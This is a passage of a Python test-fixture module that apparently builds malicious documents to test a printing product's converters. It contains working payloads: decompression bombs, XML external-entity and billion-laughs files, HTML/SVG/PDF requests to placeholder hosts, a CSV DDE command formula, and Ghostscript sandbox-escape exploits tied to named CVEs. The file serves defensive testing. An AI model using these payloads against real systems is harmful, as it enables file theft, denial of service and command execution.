# SPDX-FileCopyrightText: The Imprimatur authors
# SPDX-License-Identifier: Apache-2.0
"""The hostile set: documents that are cut, lie about themselves, unpack to much more than they are, spin, eat, read, write, call home, or
were published as ways out of Ghostscript and LibreOffice, written anew from their public descriptions. The same octets at every run.

    for document in documents(Places(...)):
        document.name, document.media_type, document.octets, document.outcomes

They are made to be printed by the product's own tests, on the machine of whoever runs these, against its own converters.
"""

import base64
import gzip
import io
import os
import struct
import subprocess
import tempfile
import zipfile
import zlib

from . import office

PDF, PS = "application/pdf", "application/postscript"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
POWERPOINT = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
ODT, ODS, ODP = ("application/vnd.oasis.opendocument." + kind for kind in ("text", "spreadsheet", "presentation"))
MIB = 1 << 20

# What may become of one. Refused by the door, printed, or one of the renderer's reasons.
REFUSED, PRINTED = "refused", "printed"
DAMAGED, PASSWORD, FORMAT = "document-unprintable-error", "document-password-needed", "document-format-error"
LARGE, LATE = "conversion-too-large", "conversion-timed-out"
BROKEN = (DAMAGED, REFUSED)
LIMITS = (LARGE, LATE, DAMAGED)  # met by any of them where the machine is busy
ANY = (REFUSED, PRINTED, DAMAGED, PASSWORD, FORMAT, LARGE, LATE)


class Places:
    """What documents name: an address, a name to be looked up, a file that is there and one that is not; and a word that stands in the
    file and must not be in any page."""

    def __init__(self, address, name, secret, made):
        self.address, self.name, self.secret, self.made = address, name, secret, made
        self.http = "http://%s/x" % address
        self.smb = "smb://%s/share/x.png" % address


class Document:
    def __init__(self, name, media_type, octets, outcomes):
        self.name, self.media_type = name, media_type
        self.octets = octets.encode() if isinstance(octets, str) else octets
        self.outcomes = outcomes


# ---- PDF ------------------------------------------------------------------------------------------------------------


def objects(*bodies, root=1, more=b"", table=True):
    """A PDF of these objects, 1 and up; with no table, readers look for the objects themselves."""
    parts, places, start = [b"%PDF-1.7\n"], [], 9
    for number, body in enumerate(bodies, 1):
        places.append(start)
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
        start += len(parts[-1])
    octets = b"".join(parts)
    if table:
        octets += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1) + b"".join(b"%010d 00000 n \n" % p for p in places)
    return octets + b"trailer << /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, root, more, start)


def stream(octets, words=b""):
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (words, len(octets), octets)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 /MediaBox [ 0 0 595 842 ] >>"


def one_page(content, resources=b"", more=(), page=b"", catalog=b"", words=b""):
    """One page; content is object 4, more are 5 and up."""
    return objects(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog, PAGES,
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << %s >> %s >>" % (resources, page),
        stream(content, words), *more,
    )


def flate(octets, times=1):
    for _ in range(times):
        octets = zlib.compress(octets, 9)
    return octets


def bomb(size, times=1):
    """Zeros, so many, packed so often; the same packed piece again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    count = size // MIB
    check = (count * MIB % 65521) << 16 | 1  # Adler-32 of zeros
    return flate(b"\x78\xda" + piece * count + b"\3\0" + struct.pack(">I", check), times - 1)


def image(width, height, octets, words=b"/Filter /FlateDecode", bits=8, space=b"/DeviceGray"):
    return stream(octets, b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent %d /ColorSpace %s %s" % (width, height, bits, space, words))


DRAW = b"500 0 0 700 40 40 cm /I Do"
I5 = b"/XObject << /I 5 0 R >>"


def with_image(*arguments, **more):
    return one_page(DRAW, I5, [image(*arguments, **more)])


def locked_pdf():
    with tempfile.TemporaryDirectory() as folder:
        paths = [os.path.join(folder, name) for name in ("open.pdf", "locked.pdf")]
        with open(paths[0], "wb") as file:
            file.write(one_page(b"0 0 100 100 re f"))
        subprocess.run(["qpdf", "--static-id", "--allow-weak-crypto", "--encrypt", "let-me-in", "owner", "128", "--use-aes=n", "--", *paths], check=True)
        with open(paths[1], "rb") as file:
            return file.read()


def deep_pages(depth):
    bodies = [CATALOG]
    for n in range(depth):
        bodies.append(b"<< /Type /Pages /Kids [ %d 0 R ] /Count 1 /MediaBox [ 0 0 595 842 ] %s >>" % (n + 3, b"/Parent %d 0 R" % (n + 1) if n else b""))
    return objects(*bodies, b"<< /Type /Page /Parent %d 0 R >>" % (depth + 1))


def many_pages(count):
    kids = b" ".join(b"%d 0 R" % n for n in range(3, 3 + count))
    tree = b"<< /Type /Pages /Kids [ %s ] /Count %d /MediaBox [ 0 0 595 842 ] >>" % (kids, count)
    return objects(CATALOG, tree, *[b"<< /Type /Page /Parent 2 0 R >>"] * count)


def form(content, resources=b"", words=b""):
    return stream(content, b"/Type /XObject /Subtype /Form /BBox [ 0 0 595 842 ] %s /Resources << %s >>" % (words, resources))


def forms(depth, width, words=b""):
    """Each draws the next one so often."""
    more = [form(b"/I Do " * width, b"/XObject << /I %d 0 R >>" % (n + 6), words) for n in range(depth)]
    return one_page(b"/I Do", I5, more + [form(b"0 0 10 10 re f", words=words)])


def object_stream_bomb():
    packed = bomb(512 * MIB, 2)
    return one_page(b"", more=[stream(packed, b"/Type /ObjStm /N 1 /First 10 /Filter [ /FlateDecode /FlateDecode ]")], catalog=b"/AcroForm 6 0 R",
                    page=b"/Annots 6 0 R")


def cross_reference_loop():
    base = one_page(b"0 0 50 50 re f")
    start = int(base.split(b"startxref\n")[1].split(b"\n")[0])
    return base.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)


def cross_reference_stream_loop():
    octets = b"%PDF-1.5\n"
    start = len(octets)
    body = stream(flate(bytes(50)), b"/Type /XRef /Size 10 /W [ 1 2 2 ] /Root 1 0 R /Filter /FlateDecode /Prev %d" % start)
    return octets + b"9 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (body, start)


def pdfs(p):
    ordinary = one_page(b"1 0 0 rg 100 100 300 300 re f", b"/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>")
    for percent in (1, 10, 30, 60, 90, 99):
        yield "a PDF cut at %d %%" % percent, ordinary[: len(ordinary) * percent // 100], ANY
    yield "a PDF of nothing", b"%PDF-1.7\n%%EOF\n", BROKEN
    yield "a PDF of noise", b"%PDF-1.7\n" + bytes((i * i * 31 + i // 7) & 255 for i in range(50000)), BROKEN
    yield "a PDF with a password", locked_pdf(), (PASSWORD,)
    yield "an unknown encryption", objects(CATALOG, PAGES, b"<< /Type /Page /Parent 2 0 R >>", b"<< /Filter /Nobody /V 9 /R 9 >>", more=b"/Encrypt 4 0 R /ID [ <00> <00> ]"), (PASSWORD, DAMAGED, PRINTED)
    yield "a page that unpacks to 512 MiB", one_page(bomb(512 * MIB), words=b"/Filter /FlateDecode"), LIMITS + (PRINTED,)
    yield "a page packed three times, 4 GiB", one_page(bomb(4096 * MIB, 3), words=b"/Filter [ /FlateDecode /FlateDecode /FlateDecode ]"), LIMITS + (PRINTED,)
    yield "objects that unpack to 512 MiB", object_stream_bomb(), LIMITS + (PRINTED,)
    yield "a picture of 4 thousand million dots", with_image(65535, 65535, bomb(32 * MIB)), LIMITS + (PRINTED,)
    yield "a picture that unpacks to 2 GiB", with_image(46000, 46000, bomb(2048 * MIB, 2), b"/Filter [ /FlateDecode /FlateDecode ]"), LIMITS + (PRINTED,)
    yield "a picture in hexadecimal of hexadecimal", with_image(100, 100, b"30" * 20000 + b">", b"/Filter [ %s /ASCIIHexDecode ]" % (b"/ASCIIHexDecode " * 500)), ANY
    yield "a picture of a colour space of itself", with_image(9, 9, flate(bytes(81)), space=b"[ /Indexed 5 0 R 255 <00> ]"), ANY
    yield "a JPEG 2000 of 2^31 dots", with_image(9, 9, b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 \0\0\0\0jp2 \0\0\0-jp2h\0\0\0\x16ihdr" + b"\x7f\xff\xff\xff" * 2 + b"\0\3\7\7\0\0", b"/Filter /JPXDecode"), ANY
    yield "a fax of 2^30 columns", with_image(1 << 30, 1 << 20, bytes(1000), b"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns %d /Rows %d >>" % (1 << 30, 1 << 20), bits=1), ANY
    yield "a JBIG2 of 2^32 dots", with_image(65535, 65535, b"\0\0\0\0\x30\0\1\0\0\0\x13" + b"\xff" * 8 + bytes(11) + bytes(100), b"/Filter /JBIG2Decode", bits=1), ANY
    yield "a mask of a mask of itself", with_image(9, 9, flate(bytes(81)), b"/Filter /FlateDecode /SMask 5 0 R"), ANY
    yield "pages 5,000 deep", deep_pages(5000), ANY
    yield "pages within themselves", objects(CATALOG, b"<< /Type /Pages /Kids [ 2 0 R 3 0 R ] /Count 2 /Parent 2 0 R >>", b"<< /Type /Page /Parent 2 0 R >>"), ANY
    yield "2 thousand million pages, it says", objects(CATALOG, b"<< /Type /Pages /Kids [ 3 0 R ] /Count 2147483647 /MediaBox [ 0 0 595 842 ] >>", b"<< /Type /Page /Parent 2 0 R >>"), ANY
    yield "50,000 pages", many_pages(50000), LIMITS
    yield "a form within itself", one_page(b"/I Do", I5, [form(b"/I Do", I5)]), ANY
    yield "forms within forms, 10^9 times", forms(9, 10), ANY
    yield "transparent groups, 4^12 times", forms(12, 4, b"/Group << /S /Transparency /I true >>"), ANY
    yield "tables that follow each other in a ring", cross_reference_loop(), ANY
    yield "packed tables in a ring", cross_reference_stream_loop(), ANY
    yield "a table of 2^31 entries", ordinary.replace(b"xref\n0 5", b"xref\n0 2147483647"), ANY
    yield "a page that is its own parent", objects(CATALOG, PAGES, b"<< /Type /Page /Parent 3 0 R >>"), ANY
    yield "a letter that draws itself", one_page(b"BT /F 99 Tf (aaa) Tj ET", b"/Font << /F 5 0 R >>", [
        b"<< /Type /Font /Subtype /Type3 /FontBBox [ 0 0 9 9 ] /FontMatrix [ 1 0 0 1 0 0 ] /FirstChar 97 /LastChar 97 /Widths [ 9 ]"
        b" /Encoding << /Differences [ 97 /a ] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>",
        stream(b"9 0 0 0 9 9 d1 BT /F 1 Tf (aaaaaaaa) Tj ET")]), ANY
    yield "a pattern with steps of nothing", one_page(b"/Pattern cs /P scn 0 0 595 842 re f", b"/Pattern << /P 5 0 R >>", [
        stream(b"0 0 1 1 re f", b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [ 0 0 1 1 ] /XStep 0.00001 /YStep 0.00001 /Resources << >>")]), ANY
    yield "a shade of a thousand functions", one_page(b"/S sh", b"/Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Domain [ 0 1 0 1 ] /Matrix [ 595 0 0 842 0 0 ] /Function 5 0 R >> >>", [
        stream(b"{ " + b"dup mul exch dup mul exch " * 20000 + b"add }", b"/FunctionType 4 /Domain [ 0 1 0 1 ] /Range [ 0 1 ]")]), ANY
    yield "scripts and programs to start", one_page(b"0 0 9 9 re f", catalog=b"/OpenAction << /S /Launch /F (/usr/bin/id) /Next << /S /JavaScript /JS (app.launchURL\\('%s'\\)) >> >> /AA << /WC << /S /URI /URI (%s) >> >>" % (p.http.encode(), p.http.encode())), ANY
    yield "forms that submit themselves", one_page(b"", page=b"/AA << /O << /S /SubmitForm /F (%s) >> >> /Annots [ << /Type /Annot /Subtype /Screen /Rect [ 0 0 9 9 ] /A << /S /GoToR /F (%s) /D [ 0 /Fit ] >> >> ]" % (p.http.encode(), p.smb.encode())), ANY
    for name, place in (("a file", p.secret), ("an address", p.http)):
        words = b"/F << /FS /URL /F (%s) /UF (%s) >> /FFilter [ ]" % (place.encode(), place.encode())
        yield "a page whose words are %s" % name, one_page(b"", words=words), ANY
        yield "a picture that is %s" % name, with_image(100, 100, b"", words), ANY
        yield "a page of another document, %s" % name, one_page(b"/I Do", I5, [form(b"", words=b"/Ref << /F (%s) /Page 0 >> /OPI << /2.0 << /Type /OPI /Version 2.0 /F (%s) >> >>" % (place.encode(), place.encode()))]), ANY
    yield "PostScript in a PDF", one_page(b"/I Do", I5, [stream(b"(%%pipe%%touch %s) (w) file" % p.made.encode(), b"/Type /XObject /Subtype /PS")]), ANY
    yield "brackets 500,000 deep", one_page(b"[" * 500000), ANY
    yield "lists 100,000 deep", objects(CATALOG, PAGES, b"<< /Type /Page /Parent 2 0 R /X %s %s >>" % (b"[" * 100000, b"]" * 100000)), ANY
    yield "a page without end", one_page(b"", page=b"/MediaBox [ 0 0 1e30 1e30 ] /UserUnit 1e30"), ANY
    yield "a page of less than nothing", one_page(b"0 0 9 9 re f", page=b"/MediaBox [ 595 842 -1e9 (x) ] /Rotate 45"), ANY
    yield "a million strokes, a thousand times", forms(6, 10).replace(b"0 0 10 10 re f", b"0 0 m 595 842 l S"), ANY
    yield "a line of 300,000 dashes and joins", one_page(b"[ 0.0001 ] 0 d 0 0 m " + b"595 842 l 0 0 l " * 20000 + b"S"), ANY


# ---- PostScript -----------------------------------------------------------------------------------------------------


def postscripts(p):
    secret, made = p.secret, p.made
    show = "/Courier findfont 10 scalefont setfont 72 700 moveto show showpage"
    read = "(%s) (r) file 200 string readstring pop " + show
    yield "a loop", "{ } loop", LIMITS
    yield "a loop of procedures", "/a { a a } def a", LIMITS
    yield "memory without end", "[ { 10000000 string } loop", LIMITS
    yield "dictionaries without end", "{ 60000 dict begin } loop", LIMITS
    yield "names without end", "0 { 1 add dup 20 string cvs cvn dup load } loop", LIMITS
    yield "pages without end", "{ showpage } loop", LIMITS
    yield "a string of 2^31 octets", "2147483647 string showpage", ANY
    yield "a picture of 4 thousand million dots", "500 700 scale 65000 65000 8 [ 65000 0 0 65000 0 0 ] { 60000 string } image showpage", LIMITS + (PRINTED,)
    yield "a file of the host", read % secret, ANY
    yield "a file by its URL", read % ("file://" + secret), ANY
    yield "a file of programs", read % "/etc/passwd", ANY
    yield "a file through run", "(%s) run showpage" % secret, ANY
    yield "a file through a library", "(%s) .runlibfile showpage" % secret, ANY
    yield "a file's status", "(%s) status { pop pop pop pop (there) } { (no) } ifelse %s" % (secret, show), ANY
    yield "all files there are", "(/*) { %s } 200 string filenameforall" % show, ANY
    yield "the environment", "(PATH) getenv { %s } if (SECRET) getenv { %s } if showpage" % (show, show), ANY
    yield "a file to write", "(%s) (w) file (x) writestring showpage" % made, ANY
    yield "a file to append to", "(%s) (a) file (x) writestring showpage" % secret, ANY
    yield "a file to delete", "(%s) deletefile showpage" % secret, ANY
    yield "a file to rename", "(%s) (%s) renamefile showpage" % (secret, made), ANY
    yield "a pipe to read", read % "%pipe%id", ANY
    yield "a pipe to write", "(%%pipe%%cat > %s) (w) file (x) writestring showpage" % made, ANY
    # CVE-2023-36664: what follows %pipe% or a bar was not looked at as a name of a file.
    for mark in ("%pipe%", "%PIPE%", "|"):
        yield "a pipe as the printer, %s (CVE-2023-36664)" % mark, "<< /OutputFile (%stouch %s) >> setpagedevice showpage" % (mark, made), ANY
    yield "a file as the printer", "<< /OutputFile (%s) >> setpagedevice showpage" % made, ANY
    # CVE-2024-29510: a format string in a device's parameters.
    yield "a format string (CVE-2024-29510)", (
        "<< /OutputDevice /uniprint /upColorModel /DeviceGray /upRendering /ErrorDiffusion /upOutputFormat /Pcl /upYMoveCommand (%x %x %x %s %n)"
        " /upWriteComponentCommands { (%x%x%n) } /upBeginPageCommand (%s%s%s%n) /OutputFile (" + made + ") >> setpagedevice 100 100 moveto 200 200 lineto stroke showpage"), ANY
    # CVE-2018-16509: a restore that failed, and left no guard.
    yield "a restore without a guard (CVE-2018-16509)", (
        "userdict /setpagedevice undef save legal { null restore } stopped { pop } if { legal } stopped { pop } if restore"
        " mark /OutputFile (%%pipe%%touch %s) currentdevice putdeviceprops showpage" % made), ANY
    # CVE-2019-6116: an operator of the interpreter's own, left in an error's hands.
    yield "an operator in an error (CVE-2019-6116)", (
        "errordict /undefined { /force exch def } put systemdict begin { 1 .pdfexectoken } stopped pop"
        " systemdict /SAFER false .forceput systemdict /userparams get /PermitFileReading [ (*) ] .forceput (%s) (r) file 100 string readstring pop %s" % (secret, show)), ANY
    yield "the guard switched off", "systemdict /SAFER false put << /LockFilePermissions false /PermitFileReading [ (*) ] >> setuserparams " + read % secret, ANY
    yield "the guard taken off", "{ .setsafe } stopped { .locksafe } stopped systemdict /.addcontrolpath known { /PermitFileWriting (*) .addcontrolpath } if (%s) (w) file (x) writestring showpage" % made, ANY
    # CVE-2021-3781: paths that begin with those of temporary files.
    yield "a temporary file with a bar (CVE-2021-3781)", "(%%pipe%%/tmp/&touch %s) (w) file (x) writestring (/tmp/../%s) (w) file (x) writestring showpage" % (made, made), ANY
    yield "a file in the PDF that is made", "[ /_objdef { s } /type /stream /OBJ pdfmark [ { s } (%s) (r) file /PUT pdfmark showpage" % secret, ANY
    yield "a font that is a file", "(%s) findfont 20 scalefont setfont 72 72 moveto (x) show showpage" % secret, ANY
    yield "a file in memory", "(%ram%x) (w) file dup (x) writestring closefile " + read % "%ram%x", ANY
    yield "an EPS that is cut", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10", ANY
    yield "an EPS of the whole world", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: -2147483648 -2147483648 2147483647 2147483647\nshowpage", ANY


# ---- pictures -------------------------------------------------------------------------------------------------------


def chunk(kind, octets):
    return struct.pack(">I", len(octets)) + kind + octets + struct.pack(">I", zlib.crc32(kind + octets))


def png(width, height, packed, colours=2, more=b""):
    head = struct.pack(">IIBBBBB", width, height, 8, colours, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + more + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def tiff(entries, strip=b"", following=0):
    """One directory of (tag, kind, count, value); a value of None is the place of the strip."""
    at = 8
    size = 2 + 12 * len(entries) + 4
    rows = b"".join(struct.pack("<HHII", tag, kind, count, at + size if value is None else value) for tag, kind, count, value in entries)
    return b"II*\0" + struct.pack("<I", at) + struct.pack("<H", len(entries)) + rows + struct.pack("<I", following) + strip


def fax(width, height, strip, packing=8, following=0, bits=8):
    return tiff([(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, bits), (259, 3, 1, packing), (262, 3, 1, 1), (273, 4, 1, None), (277, 3, 1, 1), (278, 4, 1, height),
                 (279, 4, 1, len(strip))], strip, following)


def jpeg(width, height, scans=1):
    tables = b"\xff\xdb\0C\0" + bytes([1] * 64) + b"\xff\xc4\0\x14\0\1" + bytes(15) + b"\0" + b"\xff\xc4\0\x14\x10\1" + bytes(15) + b"\0"
    frame = b"\xff\xc2\0\x0b\x08" + struct.pack(">HH", height, width) + b"\1\1\x11\0"
    scan = b"\xff\xda\0\x08\1\1\0\0\0\0" + b"\x55" * 20
    return b"\xff\xd8" + tables + frame + scan * scans + b"\xff\xd9"


def gif(width, height, frames=1, data=b"\2\2D\1\0"):
    frame = b",\0\0\0\0" + struct.pack("<HH", width, height) + b"\0" + data
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\0\0\xff\0\0\0\0\0" + frame * frames + b";"


def webp(width, height):
    bits = (width - 1) | (height - 1) << 14
    body = b"VP8L" + struct.pack("<I", 5 + 64) + b"\x2f" + struct.pack("<I", bits) + bytes(64)
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def heic(width, height):
    """The boxes of one whose picture has that size, and no picture (ISO/IEC 23008-12)."""
    def box(kind, octets):
        return struct.pack(">I", 8 + len(octets)) + kind + octets

    def full(kind, octets, version=0):
        return box(kind, struct.pack(">I", version << 24) + octets)

    properties = box(b"iprp", box(b"ipco", full(b"ispe", struct.pack(">II", width, height))) + full(b"ipma", struct.pack(">IHBB", 1, 1, 1, 1)))
    meta = full(b"meta", full(b"hdlr", struct.pack(">I4s", 0, b"pict") + bytes(13)) + full(b"pitm", struct.pack(">H", 1))
                + full(b"iinf", struct.pack(">H", 1) + full(b"infe", struct.pack(">HH4sB", 1, 0, b"hvc1", 0), 2)) + properties
                + full(b"iloc", struct.pack(">BBHHHHII", 0x44, 0, 1, 1, 0, 1, 500, 0x7FFFFFFF)))
    return box(b"ftyp", b"heic\0\0\0\0heicmif1") + meta + box(b"mdat", bytes(100))


def pwg(width, height, line):
    header = bytearray(1796)
    header[0:9] = b"PwgRaster"
    for place, value in ((276, 300), (280, 300), (372, width), (376, height), (384, 8), (388, 8), (392, line), (396, 0), (400, 18), (420, 1)):
        struct.pack_into(">I", header, place, value)
    return b"RaS2" + bytes(header) + b"\xff\x80\0" * 100


def pictures(p):
    every = b"".join(b"\0" + bytes(30) for _ in range(10))
    yield "image/png", "a PNG of 3.6 thousand million dots", png(60000, 60000, bomb(64 * MIB)), LIMITS
    yield "image/png", "a PNG of 2^31 by 2^31", png(0x7FFFFFFF, 0x7FFFFFFF, b""), LIMITS
    yield "image/png", "a PNG that unpacks to 1 GiB", png(100, 100, bomb(1024 * MIB)), ANY
    yield "image/png", "a PNG with a word that unpacks to 1 GiB", png(10, 10, flate(every), more=chunk(b"zTXt", b"Comment\0\0" + bomb(1024 * MIB))), ANY
    yield "image/png", "a PNG with colours that unpack to 1 GiB", png(10, 10, flate(every), more=chunk(b"iCCP", b"x\0\0" + bomb(1024 * MIB))), ANY
    yield "image/png", "a PNG that is cut", png(2000, 2000, flate(bytes(range(256)) * 50000))[:3000], ANY
    yield "image/png", "a PNG of nothing", b"\x89PNG\r\n\x1a\n", BROKEN
    yield "image/png", "a million chunks", b"\x89PNG\r\n\x1a\n" + png(10, 10, flate(every), more=chunk(b"tEXt", b"a\0b") * 200000)[8:], ANY
    yield "image/tiff", "a TIFF of 4 thousand million dots", fax(65535, 65535, bomb(64 * MIB)), LIMITS
    yield "image/tiff", "a TIFF of 2^32 by 2^32", fax(0xFFFFFFFF, 0xFFFFFFFF, b"x"), LIMITS
    yield "image/tiff", "a TIFF in a ring", fax(10, 10, bytes(100), 1, following=8), ANY
    yield "image/tiff", "a TIFF beyond its end", fax(1000, 1000, b"", 1), ANY
    yield "image/tiff", "a TIFF of 65,535 bits", fax(10, 10, bytes(100), 1, bits=65535), LIMITS + (FORMAT,)
    yield "image/jpeg", "a JPEG of 4 thousand million dots", jpeg(65500, 65500), ANY
    yield "image/jpeg", "a JPEG of 5,000 scans", jpeg(8000, 8000, 5000), ANY
    yield "image/jpeg", "a JPEG that is cut", jpeg(100, 100)[:150], ANY
    yield "image/gif", "a GIF of 4 thousand million dots", gif(65535, 65535), LIMITS
    yield "image/gif", "a GIF of 100,000 frames", gif(10, 10, 100000), ANY
    yield "image/gif", "a GIF without an end", gif(10, 10, data=b"\2" + b"\xffD" * 1000), ANY
    yield "image/webp", "a WebP of 268 million dots", webp(16384, 16384), ANY
    yield "image/heic", "a HEIC of 4 thousand million dots", heic(65535, 65535), LIMITS
    yield "image/heic", "a HEIC of 2^32 by 2^32", heic(0xFFFFFFFF, 0xFFFFFFFF), LIMITS
    yield "image/pwg-raster", "a raster of 2^32 dots a line", pwg(0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF), LIMITS + (REFUSED, FORMAT, PRINTED)
    yield "image/pwg-raster", "a raster that is cut", pwg(100, 100, 100)[:1500], BROKEN + (LARGE,)
    yield "image/urf", "an Apple raster of 2^32 pages", b"UNIRAST\0\xff\xff\xff\xff" + b"\x08\4\0\0" + bytes(8) + b"\xff" * 16, LIMITS + (REFUSED,)


# ---- texts ----------------------------------------------------------------------------------------------------------


def laughs(count=10, tag="a"):
    """Ten of ten of ten."""
    rows = "".join('<!ENTITY l%d "%s">' % (n, ("&l%d;" % (n - 1)) * 10) for n in range(1, count))
    return '<?xml version="1.0"?>\n<!DOCTYPE %s [ <!ENTITY l0 "ha"> %s ]>\n' % (tag, rows), "&l%d;" % (count - 1)


def svg(body, head="", more="width='300' height='300'"):
    return "%s<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' %s>%s</svg>" % (head, more, body)


def svgs(p):
    head, laugh = laughs(tag="svg")
    yield "laughs", svg("<text y='50'>%s</text>" % laugh, head), ANY
    yield "an entity that is a file", svg("<text y='50'>&f;</text>", "<?xml version='1.0'?><!DOCTYPE svg [ <!ENTITY f SYSTEM 'file://%s'> ]>" % p.secret), ANY
    for name, place in (("a file", "file://" + p.secret), ("an address", p.http), ("a share", p.smb), ("a path", "../../../.." + p.secret)):
        yield "a picture that is %s" % name, svg("<image width='99' height='99' xlink:href='%s'/><use xlink:href='%s#a'/>" % (place, place), "<?xml version='1.0'?><?xml-stylesheet href='%s'?>" % place), ANY
    yield "what is included", svg("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='%s' parse='text'/>" % p.secret), ANY
    yield "uses of uses, 10^12", svg("<rect id='u0' width='9' height='9'/>" + "".join("<g id='u%d'>%s</g>" % (n, "<use xlink:href='#u%d'/>" % (n - 1) * 10) for n in range(1, 12)) + "<use xlink:href='#u11'/>"), ANY
    yield "a filter of the whole world", svg("<filter id='f' x='-9999%' y='-9999%' width='99999%' height='99999%'><feTurbulence baseFrequency='9' numOctaves='9999'/><feGaussianBlur stdDeviation='9999'/></filter>"
                                             "<rect width='300' height='300' filter='url(#f)'/>" * 20), ANY
    yield "2^30 wide", svg("<rect width='9' height='9'/>", more="width='1073741824' height='1073741824'"), ANY
    yield "groups 200,000 deep", svg("<g>" * 200000), ANY
    yield "a pattern of a pattern of itself", svg("<pattern id='p' width='0.001' height='0.001'><rect width='9' height='9' fill='url(#p)'/></pattern><rect width='300' height='300' fill='url(#p)'/>"), ANY


def htmls(p):
    for name, place in (("files", "file://" + p.secret), ("addresses", p.http), ("shares", p.smb), ("a name", "http://%s/x" % p.name)):
        yield "everything from %s" % name, (
            "<!DOCTYPE html><html><head><base href='{0}'><link rel=stylesheet href='{0}'><link rel=attachment href='{0}'><style>@import '{0}'; @font-face {{ font-family: f;"
            " src: url('{0}') }} p {{ font-family: f; background: url('{0}'); content: url('{0}') }}</style><meta http-equiv=refresh content='0;url={0}'></head><body><p>seen"
            "<img src='{0}'><object data='{0}'></object><embed src='{0}'><iframe src='{0}'></iframe><video src='{0}' poster='{0}'></video><a rel=attachment href='{0}'>a</a>"
            "<svg><image href='{0}'/></svg><script src='{0}'></script><script>fetch('{0}')</script>").format(place), ANY
    yield "100,000 deep", "<!DOCTYPE html>" + "<div>" * 100000, ANY
    yield "300,000 cells", "<!DOCTYPE html><table>" + "<tr>" + "<td>x" * 300, ANY
    yield "pages without end", "<!DOCTYPE html><p style='height: 99999999cm'>x", ANY
    yield "words of words", "<!DOCTYPE html><style>:root { --a0: x; %s } p::before { content: var(--a25) }</style><p>" % " ".join("--a%d: var(--a%d) var(--a%d);" % (n, n - 1, n - 1) for n in range(1, 26)), ANY
    yield "a picture in it of 3.6 thousand million dots", "<!DOCTYPE html><img src='data:image/png;base64,%s'>" % base64.b64encode(png(60000, 60000, bomb(8 * MIB))).decode(), ANY


def texts(p):
    yield "text/plain", "a page for each octet", b"a\f" * 500000, LIMITS
    yield "text/plain", "a line of 20 MiB", b"x" * (20 * MIB), LIMITS + (PRINTED,)
    yield "text/plain", "commands for printers", b"\x1b%-12345X@PJL SET PASSWORD=1\r\n@PJL FSDOWNLOAD\r\nwords\n\x1bE\x1b&l0O", ANY
    yield "text/plain; charset=utf-16", "half a letter", b"\xff\xfe\x00\xd8" * 5000 + b"\x41", ANY
    yield "text/plain; charset=iso-2022-jp", "a thousand changes of letters", b"\x1b$B\x1b(B" * 5000 + b"x\n", ANY
    yield "text/markdown", "quotes 50,000 deep", ">" * 50000 + " x\n", ANY
    yield "text/markdown", "brackets 50,000 deep", "[" * 50000 + "](" * 50000, ANY
    yield "text/markdown", "pictures and pages of others", "![x](%s)\n![y](file://%s)\n<img src='%s'>\n" % (p.http, p.secret, p.http), ANY
    yield "text/csv", "formulas that start programs", "=cmd|' /C touch %s'!A0\n=DDE(\"soffice\";\"%s\";\"A1\")\n=WEBSERVICE(\"%s\")\n" % (p.made, p.secret, p.http), ANY
    yield "text/csv", "300,000 rows", b"1;2;3\n" * 300000, LIMITS + (PRINTED,)


# ---- office ---------------------------------------------------------------------------------------------------------


def parts_changed(archive, **changes):
    """An archive with parts more or other."""
    octets = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(octets, "w", zipfile.ZIP_DEFLATED) as new:
        changed = dict(changes)
        for name in old.namelist():
            new.writestr(_at(name), changed.pop(name) if name in changed else old.read(name))
        for name, part in changed.items():
            new.writestr(_at(name), part)
    return octets.getvalue()


def _at(name):
    """The same moment in every archive."""
    info = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
    return info


def event(address, name="dom:load"):
    return ('<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="%s" xlink:href="%s"'
            ' xlink:type="simple"/></office:event-listeners></office:scripts>' % (name, address))


def frame(what):
    return '<text:p>seen<draw:frame svg:width="5cm" svg:height="5cm">%s</draw:frame></text:p>' % what


def basic(lines):
    """A library of macros in OpenDocument."""
    library = 'xmlns:library="http://openoffice.org/2000/library"'
    return {
        "Basic/script-lc.xml": office.XML + '<library:libraries %s xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>' % library,
